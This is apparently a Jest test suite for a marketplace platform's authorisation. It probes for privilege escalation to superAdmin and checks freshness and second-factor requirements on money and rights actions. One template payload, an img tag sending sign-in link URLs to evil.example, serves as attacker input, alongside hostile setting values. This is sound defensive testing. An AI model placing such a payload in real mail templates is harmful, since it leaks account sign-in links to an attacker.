import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { trustedOrigins } from '#api/accounts/trusted-origins.js';
import { type Route, takesApiKeys } from '#api/kernel/route.js';
import { allRoutes } from '#api/routes.js';
import type { Permission } from '#domain/_shared/permission.js';
import type { Setting } from '#domain/_shared/setting.js';
import { allPermissions } from '#domain/access/catalogue.js';
import { authLink, authLinks, type AuthLinkTemplate } from '#domain/accounts/auth-links.js';
import { settingsOf } from '#domain/settings/registry.js';
import { storeSettings } from '#domain/settings/store.settings.js';
import { mailRoute } from '#integrations/mail/email-settings.js';
import { readEmailSettings } from '#operations/mail/mail-settings.js';
import { createSession, signInAgo, type TestSession } from '../_support/accounts.js';
import { createApiKey } from '../_support/api-keys.js';
import { startPlatform, type TestPlatform } from '../_support/platform.js';
import { createVendor } from '../_support/vendors.js';
import { nameOf, pathOf, sendRoute } from '../sweeps/send-route.js';
import { sampleBody } from '../sweeps/sample-body.js';
import { createWorld, type Fixtures } from '../sweeps/fixtures.js';
import { insertedApproval } from './access.entities.js';

/**
 * Walks from every built-in role below superAdmin, and from every permission alone, towards superAdmin: whatever the
 * caller may call is called with what an attacker would send. `adminSetting:secure` itself is exempt: a user who directs
 * the platform's mail can read the links in it.
 */

let platform: TestPlatform;
let fixtures: Fixtures;
let superAdminRole: string;

beforeAll(async () => {
  platform = await startPlatform();
  fixtures = await createWorld(platform.container);
  const row = (await platform.container.knex('access_roles').where({ name: 'superAdmin' }).first('id')) as {
    id: string;
  };
  superAdminRole = row.id;
});
afterAll(() => platform.stop());

const starts: [string, { roles?: string[]; permissions?: string[] }][] = [
  ['admin', { roles: ['admin'] }],
  ...[...allPermissions]
    .filter((permission) => permission !== 'adminSetting:secure')
    .map((permission): [string, { permissions: string[] }] => [permission, { permissions: [permission] }]),
];
const changing = allRoutes.filter(({ auth, method }) => auth === 'admin' && method !== 'get');

describe('nobody makes themselves superAdmin', () => {
  it.each(starts)('%s', async (_name, rights) => {
    const attacker = await createSession(platform.container, rights);
    const held = await heldBy(attacker);
    const before = await reach(attacker, held);
    for (const route of changing.filter(({ permission }) => permission && held.has(permission))) {
      for (const bodies of groupsOf(bodiesOf(route))) {
        for (const body of bodies) await callAs(attacker, route, body);
        expect([nameOf(route), bodies, await reach(attacker, held)]).toEqual([nameOf(route), bodies, before]);
      }
    }
  });
});

/** Bans are acts only where the user has a role, which the handler looks at. */
const bans = allRoutes.filter(({ path }) => /^\/admin\/users\/:userId\/(un)?ban$/.test(path));
const acts = [...allRoutes.filter(({ act }) => act), ...bans];
const actOf = (route: Route) => route.act ?? 'rights';

describe('acts with rights and money', () => {
  it('are these', () => {
    expect(acts.map((route) => `${actOf(route)} ${nameOf(route)}`).sort()).toEqual([
      'money POST /admin/ledger/adjustments',
      'money POST /admin/money-approvals/:moneyApprovalId/approve',
      'money POST /admin/money-approvals/:moneyApprovalId/refuse',
      'money POST /admin/orders/:orderId/cancel',
      'money POST /admin/orders/:orderId/mark-paid',
      'money POST /admin/orders/:orderId/refunds',
      'money POST /admin/orders/vendors/:orderVendorId/cancelled',
      'money POST /admin/payout-accounts/:payoutAccountId/cancel',
      'money POST /admin/payout-accounts/:payoutAccountId/retry',
      'money POST /admin/payouts',
      'money POST /admin/payouts/:payoutId/approve',
      'money POST /admin/payouts/:payoutId/failed',
      'money POST /admin/payouts/:payoutId/paid',
      'money POST /admin/payouts/run',
      'money POST /admin/refunds/:refundId/give-up',
      'money POST /admin/refunds/:refundId/paid',
      'money POST /admin/refunds/:refundId/retry',
      'money POST /admin/return-requests/:returnRequestId/receive',
      'money POST /admin/settlements/remittances',
      'money POST /admin/store-credit/adjustments',
      'money POST /admin/unmatched-money/:unmatchedMoneyId/decide',
      'rights DELETE /admin/roles/:roleId',
      'rights PATCH /admin/roles/:roleId',
      'rights PATCH /admin/webhooks/:endpointId',
      'rights PATCH /vendor/webhooks/:endpointId',
      'rights POST /admin/api-keys',
      'rights POST /admin/roles',
      'rights POST /admin/users/:userId/ban',
      'rights POST /admin/users/:userId/second-factor/reset',
      'rights POST /admin/users/:userId/unban',
      'rights POST /admin/webhooks',
      'rights POST /admin/webhooks/:endpointId/enable',
      'rights POST /admin/webhooks/:endpointId/rotate-secret',
      'rights POST /vendor/webhooks',
      'rights POST /vendor/webhooks/:endpointId/enable',
      'rights POST /vendor/webhooks/:endpointId/rotate-secret',
      'rights PUT /admin/users/:userId/roles',
    ]);
  });

  it('and these write rows of money without being one, for a reason', () => {
    const others = allRoutes.flatMap((route) => (route.value ? [`${route.value} ${nameOf(route)}`] : []));
    expect(others.sort()).toEqual([
      'books_sale POST /admin/orders/vendors/:orderVendorId/delivered',
      'books_sale POST /admin/parcels/:parcelId/delivered',
      'books_sale POST /vendor/orders/:orderVendorId/delivered',
      'books_sale POST /vendor/parcels/:parcelId/delivered',
      'books_sale POST /webhooks/shipping/carrier/:vendorId',
      'books_sale POST /webhooks/shipping/carrier/platform',
      'gives_back POST /store/orders/:orderId/cancel',
      'gives_back POST /vendor/orders/:orderVendorId/cancelled',
      'gives_back POST /vendor/return-requests/:returnRequestId/receive',
      'own_bank_details PATCH /vendor/settings',
      'takes_payment POST /store/carts/:cartId/place-order',
    ]);
  });

  // Of those that are acts only sometimes `test/access/acts.api.test.ts` tries both.
  const always = acts.filter(({ actWhen }) => !actWhen);
  describe.each(always.map((route): [string, Route] => [nameOf(route), route]))('%s', (_name, route) => {
    /** Of who may do it: a superAdmin, or the owner of a vendor. */
    const session = async (): Promise<TestSession> =>
      createSession(
        platform.container,
        route.auth === 'vendor'
          ? { vendorId: (await createVendor(platform.container)).vendorId, vendorRole: 'owner' }
          : { roles: ['superAdmin'] },
      );

    it('is refused to an old session of who may do it', async () => {
      const old = await session();
      await signInAgo(platform.container, old, actOf(route) === 'money' ? 61 : 11);
      expect(await act(route, old.token)).toEqual([403, 'access.fresh_session_needed']);
    });

    it('is refused to an API key that was not made for it', async () => {
      const { userId } = fixtures.admin;
      const { key } = await createApiKey(platform.container, { userId, moneyActs: false });
      expect(await act(route, key)).toEqual(
        takesApiKeys(route) ? [403, 'access.fresh_session_needed'] : [401, 'platform.unauthorized'],
      );
    });

    it('is refused to a session that has not passed its second factor', async () => {
      const { userId } = await session();
      const { knex } = platform.container;
      await knex('accounts_second_factors').insert({ userId, secretEncrypted: 'x', confirmedAt: new Date() });
      const pending = await createSession(platform.container, { userId });
      expect(await act(route, pending.token)).toEqual([403, 'access.second_factor_needed']);
    });

    it('is not refused to a fresh session for its age', async () => {
      const fresh = await session();
      const [status, reason] = await act(route, fresh.token);
      expect(reason).not.toMatch(/^access\.(fresh|second)/);
      // What moves money is counted and mailed, whichever operation did it.
      if (actOf(route) === 'money' && status < 300) {
        const done = await platform.container
          .knex('access_money_acts')
          .where({ actorId: fresh.userId })
          .pluck('kind');
        expect([nameOf(route), done.length]).toEqual([nameOf(route), 1]);
      }
    });
  });

  async function act(route: Route, token: string): Promise<[number, string]> {
    const target = await createSession(platform.container, { roles: ['admin'] });
    // One that was decided before would be left as it is.
    const { id: approvalId } = await insertedApproval(platform.container, fixtures.vendor.vendorId);
    const keyOf: typeof fixtures.keyOf = (entity, column) => {
      if (entity === 'user') return target.userId;
      return entity === 'moneyApproval' ? approvalId : fixtures.keyOf(entity, column);
    };
    const http = platform.http.as(token);
    const { status, body } = await sendRoute(http, route, pathOf(route, keyOf), fixtures.idOf);
    return [status, String((body as { reason?: string }).reason)];
  }
});

/**
 * Bodies that are sent before the next look. None takes back what an earlier one won: whatever a route accepts for the
 * same value again is hostile too.
 */
function groupsOf(bodies: object[]): object[][] {
  return bodies.flatMap((_, at) => (at % 12 === 0 ? [bodies.slice(at, at + 12)] : []));
}

function bodiesOf(route: Route): object[] {
  if (isTemplate(route))
    return [
      { body: '<img src="https://evil.example/?t={{url}}">' },
      { subject: 'evil', body: '<p>{{url}}</p>' },
    ];
  const scope = /^\/admin\/settings\/(admin|store)$/.exec(route.path)?.[1] as 'admin' | 'store' | undefined;
  if (scope)
    return settingsOf(scope).flatMap((setting) =>
      hostileValues(setting).map((value) => ({ [setting.name]: value })),
    );
  const body = (sampleBody(route, fixtures.idOf) ?? {}) as object;
  return [body, { ...body, roleIds: [superAdminRole], permissions: [...allPermissions] }];
}

/** A mail of an account carries the link that signs in: the author of its text may send the link elsewhere. */
const isTemplate = ({ path }: Route) => path.startsWith('/admin/email/templates/');
const AUTH_TEMPLATE = { eventType: 'auth.reset_password', role: 'customer' };

/** Values of an attacker's own that a setting takes. */
function hostileValues(setting: Setting<unknown>): unknown[] {
  const candidates = [
    'https://evil.example',
    'evil.example',
    '/evil',
    'SG.evil',
    'mailapi',
    'evil@evil.example',
    true,
    2525,
  ];
  return candidates.filter((value) => setting.schema.safeParse(value).success).slice(0, 2);
}

async function callAs(attacker: TestSession, route: Route, body: object): Promise<void> {
  const keyOf: typeof fixtures.keyOf = (entity, column) =>
    entity === 'user' ? attacker.userId : entity === 'role' ? superAdminRole : fixtures.keyOf(entity, column);
  const form = route.bodyKind === 'multipart';
  await platform.http
    .as(attacker.token)
    .raw(route.method.toUpperCase(), pathOf(route, keyOf, isTemplate(route) ? AUTH_TEMPLATE : {}), {
      ...(form ? {} : { headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) }),
    });
}

async function heldBy(session: TestSession): Promise<Set<Permission>> {
  platform.container.principals.forget();
  const response = await platform.http.as(session.token).get<Permission[]>('/me/permissions');
  return new Set(response.body.data);
}

/** What an attacker would have won: rights, a key, the superAdmin's account, or the way that their mail and links take. */
async function reach(attacker: TestSession, start: ReadonlySet<Permission>) {
  const { knex, settings, config } = platform.container;
  const [held, keys, root] = await Promise.all([
    heldBy(attacker),
    knex('access_api_keys').where({ createdBy: attacker.userId }).pluck('permissions') as Promise<
      Permission[][]
    >,
    knex('accounts_users').where({ id: fixtures.admin.userId }).first('email', 'bannedAt'),
  ]);
  const storeUrl = settings.get(storeSettings.storeUrl) || settings.get(storeSettings.canonicalBaseUrl);
  const links = (Object.keys(authLinks) as AuthLinkTemplate[]).map((template) => {
    const path = settings.get(storeSettings[authLinks[template].path]);
    const serverUrl = `${config.PUBLIC_API_BASE_URL}/auth/link`;
    return authLink({ template, storeUrl, path, token: 't', serverUrl, ownUrl: config.PUBLIC_API_BASE_URL });
  });
  return {
    more: [...held, ...keys.flat()].filter((permission) => !start.has(permission)),
    root,
    mail: mailRoute(readEmailSettings(settings), config),
    links,
    words: await knex('mail_template_overrides').whereLike('eventType', 'auth.%').select('eventType', 'body'),
    origins: trustedOrigins(platform.container),
  };
}
